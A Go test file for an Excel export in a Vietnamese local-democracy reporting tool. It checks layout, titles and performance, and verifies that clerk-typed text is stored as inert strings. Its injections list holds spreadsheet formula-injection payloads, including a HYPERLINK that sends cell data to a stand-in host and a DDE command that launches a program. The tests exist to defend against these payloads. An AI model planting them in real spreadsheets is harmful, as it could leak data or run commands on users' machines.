package xlsx

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"runtime/metrics"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"baocao/reporting"
	"baocao/vi"
)

var (
	hcmZone = time.FixedZone("ICT", 7*3600)
	now     = time.Date(2025, time.June, 20, 9, 30, 0, 0, hcmZone)
)

// synthetic builds a consolidation of n communes under districts of 100,
// with nFields fields: mostly counts, a sum of money, a percentage, a
// choice, a date and a text per ten fields. Every 17th unit did not report.
func synthetic(n, nFields int) *reporting.Consolidation {
	var fields []reporting.Field
	var sections []reporting.Section
	for i := range nFields {
		f := reporting.Field{Code: fmt.Sprintf("f%02d", i), Label: fmt.Sprintf("Chỉ tiêu số %d về thực hiện dân chủ ở cơ sở", i+1),
			Type: reporting.TypeInt, Unit: "cuộc", Aggregate: reporting.AggSum}
		switch i % 10 {
		case 3:
			f.Type, f.Unit = reporting.TypeDecimal, "đồng"
		case 5:
			f.Type, f.Unit, f.Aggregate = reporting.TypePercent, "%", reporting.AggAvg
		case 7:
			f.Type, f.Unit, f.Aggregate, f.Choices = reporting.TypeChoice, "", reporting.AggCount, []string{"Tốt", "Khá", "Trung bình", "Yếu"}
		case 8:
			f.Type, f.Unit, f.Aggregate = reporting.TypeDate, "", reporting.AggNone
		case 9:
			f.Type, f.Unit, f.Aggregate = reporting.TypeText, "", reporting.AggNone
		}
		if i%10 == 0 {
			sections = append(sections, reporting.Section{Title: fmt.Sprintf("Phần %d", i/10+1)})
		}
		sections[len(sections)-1].Fields = append(sections[len(sections)-1].Fields, f)
		fields = append(fields, f)
	}
	deadline := time.Date(2025, time.June, 16, 23, 59, 59, 0, hcmZone)
	c := &reporting.Consolidation{
		Form:     reporting.Form{Code: "BENCH", Title: "Báo cáo kết quả thực hiện dân chủ ở cơ sở", Sections: sections},
		Fields:   fields,
		Period:   reporting.Period{Key: "2025-H1", Label: "6 tháng đầu năm 2025", DataFrom: reporting.Day(2024, 12, 15), DataTo: reporting.Day(2025, 6, 14)},
		Province: "Tỉnh Đồng Nai",
		Units:    make([]reporting.UnitReport, n),
	}
	for i := range n {
		u := &c.Units[i]
		u.Code = fmt.Sprintf("%05d", 20000+i)
		u.Name = fmt.Sprintf("Xã Thạnh Phú Đông %d", i+1)
		u.Kind = reporting.KindCommunePC
		u.ParentCode = fmt.Sprintf("%03d", 700+i/100)
		u.ParentName = fmt.Sprintf("Huyện Định Quán %d", i/100+1)
		u.Deadline = deadline
		u.Status = reporting.StatusMissing
		if i%17 == 0 {
			continue
		}
		u.Status = reporting.StatusSubmitted
		u.FirstSubmittedAt = deadline.Add(-time.Duration(i%48) * time.Hour)
		u.LastSubmittedAt, u.Versions, u.CountedVersion = u.FirstSubmittedAt, 1, 1
		u.Values = make([]reporting.FieldValue, nFields)
		for fi, f := range fields {
			v := &u.Values[fi]
			switch f.Type {
			case reporting.TypeInt:
				v.Num = reporting.DecimalInt(int64((i*7 + fi*13) % 1000))
			case reporting.TypeDecimal:
				v.Num = reporting.Decimal(fmt.Sprintf("%d.%02d", (i*31+fi)%100000, i%100))
			case reporting.TypePercent:
				v.Num = reporting.DecimalInt(int64(50 + (i+fi)%51))
			case reporting.TypeChoice:
				v.Text = f.Choices[(i+fi)%len(f.Choices)]
			case reporting.TypeDate:
				v.Day = reporting.Day(2025, time.Month(1+i%6), 1+i%28)
			case reporting.TypeText:
				v.Text = "Khó khăn về kinh phí và nhân lực thực hiện dân chủ ở cơ sở."
			}
		}
	}
	reporting.SortUnits(c.Units, vi.NewKeyer().Key)
	// The groups are the writer's input, as the store would give them,
	// with figures written out: the same for every group, since the writer
	// lays them out and adds nothing up.
	figures := map[reporting.FieldType]reporting.Aggregated{
		reporting.TypeInt:     {Value: "48213"},
		reporting.TypeDecimal: {Value: "4731520.37"},
		reporting.TypePercent: {Value: "74.8511"},
		reporting.TypeChoice:  {Count: 235, Choices: []int{59, 59, 59, 58}},
	}
	group := func(level reporting.GroupLevel, units []reporting.UnitReport) reporting.Group {
		g := reporting.Group{Level: level, Kind: reporting.KindCommunePC, Obliged: len(units), Values: make([]reporting.Aggregated, nFields)}
		if level == reporting.LevelParent {
			g.ParentCode, g.ParentName = units[0].ParentCode, units[0].ParentName
		}
		for _, u := range units {
			if u.Reported() {
				g.Reported++
			}
		}
		for fi, f := range fields {
			g.Values[fi] = figures[f.Type]
		}
		return g
	}
	c.Total = group(reporting.LevelProvince, c.Units)
	c.Total.Kind = ""
	c.Groups = []reporting.Group{group(reporting.LevelKind, c.Units)}
	for start := 0; start < n; start += 100 {
		c.Groups = append(c.Groups, group(reporting.LevelParent, c.Units[start:min(start+100, n)]))
	}
	return c
}

func write(t testing.TB, c *reporting.Consolidation) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "tong-hop.xlsx")
	out, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := Write(context.Background(), out, c, Options{Now: now, Location: hcmZone}); err != nil {
		t.Fatal(err)
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

// injections are texts a clerk might type that a spreadsheet would run as
// formulas if they were written as such.
var injections = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`,
	"+1+1",
	"-2+3",
	"@SUM(1,2)",
	"\t=1+1",
	"\r=1+1",
	`=cmd|' /C calc'!A0`,
}

func injected() *reporting.Consolidation {
	c := synthetic(len(injections)+2, 10)
	text := c.FieldIndex("f09")
	for i, s := range injections {
		u := &c.Units[i+1] // unit 0 did not report
		u.Values[text].Text = s
	}
	c.Units[1].Name = "=1+2" // names come from imports: just as inert
	return c
}

func TestUserTextIsWrittenAsInertStrings(t *testing.T) {
	t.Parallel()
	f, err := excelize.OpenFile(write(t, injected()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(sheetTexts)
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for r, row := range rows {
		if len(row) < 5 || !slices.Contains(injections, row[4]) {
			continue
		}
		found++
		ref := cellName(5, r+1)
		if formula, _ := f.GetCellFormula(sheetTexts, ref); formula != "" {
			t.Errorf("%s holds formula %q", ref, formula)
		}
		if typ, _ := f.GetCellType(sheetTexts, ref); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s %q has cell type %v, want a string", ref, row[4], typ)
		}
	}
	if found != len(injections) {
		t.Fatalf("found %d of %d injected texts in %s", found, len(injections), sheetTexts)
	}
	// The unit name too, in the summary.
	for r, row := range mustRows(t, f, sheetSummary) {
		if len(row) > 1 && row[1] == "=1+2" {
			if typ, _ := f.GetCellType(sheetSummary, cellName(2, r+1)); typ != excelize.CellTypeInlineString {
				t.Errorf("unit name =1+2 has cell type %v", typ)
			}
			return
		}
	}
	t.Fatal("unit named =1+2 not in the summary")
}

func mustRows(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// libreOffice runs soffice headless with a private profile, so parallel
// tests do not fight over one. Without LibreOffice the test fails, naming
// the Debian package (.ci/test installs it): skipping would pass with
// nothing checked.
func libreOffice(t *testing.T, args ...string) {
	t.Helper()
	bin, err := exec.LookPath("libreoffice")
	if err != nil {
		t.Fatalf("LibreOffice is needed (%v): apt-get install -y libreoffice-calc (.ci/test installs it)", err)
	}
	profile := "file://" + t.TempDir()
	cmd := exec.Command(bin, append([]string{"-env:UserInstallation=" + profile, "--headless"}, args...)...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("libreoffice %v: %v\n%s", args, err, out)
	}
}

func TestLibreOfficeOpensTheWorkbookAndKeepsInjectionsAsText(t *testing.T) {
	t.Parallel()
	path := write(t, injected())
	dir := t.TempDir()
	libreOffice(t, "--convert-to", "pdf", "--outdir", dir, path)
	if st, err := os.Stat(filepath.Join(dir, "tong-hop.pdf")); err != nil || st.Size() == 0 {
		t.Fatalf("LibreOffice made no PDF: %v", err)
	}
	// Every sheet as CSV (sheet -1), as LibreOffice computed it: a formula
	// would show its result, inert text itself.
	libreOffice(t, "--convert-to", `csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1`, "--outdir", dir, path)
	data, err := os.ReadFile(filepath.Join(dir, "tong-hop-"+sheetTexts+".csv"))
	if err != nil {
		entries, _ := os.ReadDir(dir)
		t.Fatalf("no CSV of %s: %v (made %v)", sheetTexts, err, entries)
	}
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range records {
		if len(r) == 5 {
			got = append(got, r[4])
		}
	}
	for _, s := range injections {
		if !slices.Contains(got, s) {
			t.Errorf("LibreOffice shows %q as something else; column: %q", s, got)
		}
	}
}

func TestWorkbookLayout(t *testing.T) {
	t.Parallel()
	c := synthetic(250, 20)
	f, err := excelize.OpenFile(write(t, c))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !slices.Equal(got, []string{sheetSummary, sheetCompliance, sheetMissing, sheetCompare, sheetChoices, sheetTexts, sheetSignals}) {
		t.Fatalf("sheets %q", got)
	}
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(props.Title, c.Form.Title) || props.Subject != c.Form.Title || props.Creator != "baocao" {
		t.Errorf("document properties %+v", props)
	}
	panes, err := f.GetPanes(sheetSummary)
	if err != nil || !panes.Freeze || panes.YSplit != summaryHeaderEnd || panes.XSplit != summaryFixedCols {
		t.Errorf("summary panes %+v, %v", panes, err)
	}
	layout, err := f.GetPageLayout(sheetSummary)
	if err != nil || *layout.Orientation != "landscape" || *layout.Size != 9 || *layout.FitToWidth != 2 { // 21 columns
		t.Errorf("page layout %+v, %v", layout, err)
	}
	var titles string
	for _, dn := range f.GetDefinedName() {
		if dn.Name == "_xlnm.Print_Titles" && dn.Scope == sheetSummary {
			titles = dn.RefersTo
		}
	}
	if titles != "'Tổng hợp'!$A:$C,'Tổng hợp'!$4:$6" {
		t.Errorf("print titles %q", titles)
	}
	checks := []struct {
		cell, value, format string
	}{
		{"A4", txtColNo, ""},
		{"D5", "Chỉ tiêu số 1 về thực hiện dân chủ ở cơ sở (cuộc)", ""},
		{"I5", "Chỉ tiêu số 6 về thực hiện dân chủ ở cơ sở (%) — bình quân", ""},
		{"K5", "Chỉ tiêu số 8 về thực hiện dân chủ ở cơ sở " + txtChoiceHeader, ""},
		// The province's figures as synthetic gives them; for a choice,
		// how many units answered.
		{"B7", "TỔNG CỘNG TOÀN TỈNH", ""},
		{"C7", "235/250", ""},
		{"D7", "48,213", numFmts[fmtInt]},
		{"G7", "4,731,520.37", numFmts[fmtDec]},
		{"I7", "74.9%", numFmts[fmtPct]},
		{"K7", "235", numFmts[fmtInt]},
		{"B9", "Huyện Định Quán 1", ""},
		{"C9", "94/100", ""},
	}
	for _, ch := range checks {
		if ch.value != "" {
			if v, _ := f.GetCellValue(sheetSummary, ch.cell); v != ch.value {
				t.Errorf("%s = %q, want %q", ch.cell, v, ch.value)
			}
		}
		if ch.format != "" {
			id, _ := f.GetCellStyle(sheetSummary, ch.cell)
			st, err := f.GetStyle(id)
			if err != nil || st.CustomNumFmt == nil || *st.CustomNumFmt != ch.format {
				t.Errorf("%s number format %v, want %s", ch.cell, st, ch.format)
			}
		}
	}
	// A missing unit: "not reported" and empty figures, never 0.
	for r, row := range mustRows(t, f, sheetSummary) {
		if len(row) > 2 && row[1] == c.Units[0].Name {
			if row[2] != reporting.NotReported || slices.ContainsFunc(row[3:], func(s string) bool { return s != "" }) {
				t.Errorf("row %d of a unit that did not report: %q", r+1, row)
			}
		}
	}
}

// meter measures a phase of a benchmark: wall time, bytes allocated and
// the peak of the live heap, sampled every 2 ms from runtime/metrics
// (which, unlike ReadMemStats, does not stop the world).
type meter struct {
	stop chan struct{}
	done sync.WaitGroup
	peak atomic.Uint64
}

func startMeter() *meter {
	m := &meter{stop: make(chan struct{})}
	m.done.Add(1)
	go func() {
		defer m.done.Done()
		sample := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
		tick := time.NewTicker(2 * time.Millisecond)
		defer tick.Stop()
		for {
			metrics.Read(sample)
			for v := sample[0].Value.Uint64(); ; {
				old := m.peak.Load()
				if v <= old || m.peak.CompareAndSwap(old, v) {
					break
				}
			}
			select {
			case <-m.stop:
				return
			case <-tick.C:
			}
		}
	}()
	return m
}

func (m *meter) close() {
	close(m.stop)
	m.done.Wait()
}

// phase is what one measured phase took.
type phase struct {
	elapsed time.Duration
	alloc   uint64 // bytes
	peak    uint64 // bytes of live heap
	before  uint64 // bytes of live heap at the start: the inputs
}

// run measures fn, from a collected heap.
func (m *meter) run(fn func()) phase {
	runtime.GC()
	allocs := []metrics.Sample{{Name: "/gc/heap/allocs:bytes"}, {Name: "/memory/classes/heap/objects:bytes"}}
	metrics.Read(allocs)
	before := allocs[0].Value.Uint64()
	m.peak.Store(0)
	start := time.Now()
	fn()
	p := phase{elapsed: time.Since(start), before: allocs[1].Value.Uint64()}
	metrics.Read(allocs)
	p.alloc, p.peak = allocs[0].Value.Uint64()-before, m.peak.Load()
	return p
}

const (
	benchUnits  = 10_000
	benchFields = 50
	benchRounds = 3 // workbook and bare, alternately, per iteration
)

// BenchmarkWorkbook writes the consolidated workbook of 10,000 units × 50
// fields and, alternately in the same run, the baseline: the very cells of
// that workbook (read back from one, numbers as numbers) written sheet by
// sheet with excelize's StreamWriter and nothing else — no styles, widths,
// merges, panes, print set-up or properties. ns/op is the workbook's;
// x-bare is the ratio of the two (target ≤ 1.3); *-peak-MiB the highest
// live heap during each (target < 300), which includes inputs-MiB: the
// consolidation and the baseline's cells, both live throughout. B/op and
// allocs/op count every round of both; alloc-MiB/op is per workbook.
func BenchmarkWorkbook(b *testing.B) {
	c := synthetic(benchUnits, benchFields)
	cells := sameCells(b, c)
	m := startMeter()
	defer m.close()
	var workbook, bare phase
	add := func(total *phase, p phase) {
		total.elapsed += p.elapsed
		total.alloc += p.alloc
		total.peak = max(total.peak, p.peak)
		total.before = max(total.before, p.before)
	}
	n := 0
	for b.Loop() {
		for range benchRounds {
			n++
			add(&workbook, m.run(func() {
				if err := Write(context.Background(), discard{}, c, Options{Now: now, Location: hcmZone}); err != nil {
					b.Fatal(err)
				}
			}))
			add(&bare, m.run(func() { writeBare(b, cells) }))
		}
	}
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	mib := func(x uint64) float64 { return float64(x) / (1 << 20) }
	b.ReportMetric(float64(workbook.elapsed.Nanoseconds())/float64(n), "ns/op")
	b.ReportMetric(float64(bare.elapsed.Nanoseconds())/float64(n)/1e6, "bare-ms/op")
	b.ReportMetric(float64(workbook.elapsed)/float64(bare.elapsed), "x-bare")
	b.ReportMetric(mib(workbook.peak), "peak-MiB")
	b.ReportMetric(mib(bare.peak), "bare-peak-MiB")
	b.ReportMetric(mib(workbook.alloc)/float64(n), "alloc-MiB/op")
	b.ReportMetric(mib(bare.alloc)/float64(n), "bare-alloc-MiB/op")
	b.ReportMetric(mib(workbook.before), "inputs-MiB")
	b.ReportMetric(mib(ms.HeapSys), "heap-sys-MiB")
}

// writeBare writes cells, sheet by sheet, with a bare StreamWriter.
func writeBare(b *testing.B, sheets [][][]any) {
	f := excelize.NewFile()
	defer f.Close() //nolint:errcheck
	for i, s := range sheets {
		name := fmt.Sprintf("Sheet%d", i+1)
		if i > 0 {
			if _, err := f.NewSheet(name); err != nil {
				b.Fatal(err)
			}
		}
		sw, err := f.NewStreamWriter(name)
		if err != nil {
			b.Fatal(err)
		}
		for r, row := range s {
			if err := sw.SetRow(cellName(1, r+1), row); err != nil {
				b.Fatal(err)
			}
		}
		if err := sw.Flush(); err != nil {
			b.Fatal(err)
		}
	}
	if err := f.Write(discard{}); err != nil {
		b.Fatal(err)
	}
}

// sameCells reads every sheet of c's workbook back as values: numbers as
// float64, the rest as strings.
func sameCells(b *testing.B, c *reporting.Consolidation) [][][]any {
	var buf bytes.Buffer
	if err := Write(context.Background(), &buf, c, Options{Now: now, Location: hcmZone}); err != nil {
		b.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		b.Fatal(err)
	}
	defer f.Close()
	var out [][][]any
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			b.Fatal(err)
		}
		s := make([][]any, len(rows))
		for r, row := range rows {
			s[r] = make([]any, len(row))
			for i, v := range row {
				if x, err := strconv.ParseFloat(v, 64); err == nil {
					s[r][i] = x
				} else if v != "" {
					s[r][i] = v
				}
			}
		}
		out = append(out, s)
	}
	return out
}

type discard struct{}

func (discard) Write(p []byte) (int, error) { return len(p), nil }

// TestTitleNamesThePeriodAndTheTerritory: the summary's title names the
// period and today's root with its type, a city as a city.
func TestTitleNamesThePeriodAndTheTerritory(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ root, want string }{
		{"Tỉnh Đồng Nai", "6 tháng đầu năm 2025 trên địa bàn tỉnh Đồng Nai (số liệu từ ngày 15/12/2024 đến ngày 14/06/2025)"},
		{"UBND thành phố Đồng Nai", "6 tháng đầu năm 2025 trên địa bàn thành phố Đồng Nai (số liệu từ ngày 15/12/2024 đến ngày 14/06/2025)"},
	} {
		c := synthetic(3, 2)
		c.Province = tc.root
		f, err := excelize.OpenFile(write(t, c))
		if err != nil {
			t.Fatal(err)
		}
		head, _ := f.GetCellValue(sheetSummary, "A1")
		sub, _ := f.GetCellValue(sheetSummary, "A2")
		f.Close()
		if head != "BÁO CÁO TỔNG HỢP: BÁO CÁO KẾT QUẢ THỰC HIỆN DÂN CHỦ Ở CƠ SỞ" || !strings.HasPrefix(sub, tc.want) {
			t.Errorf("%s: title %q / %q, want the second to start %q", tc.root, head, sub, tc.want)
		}
	}
}
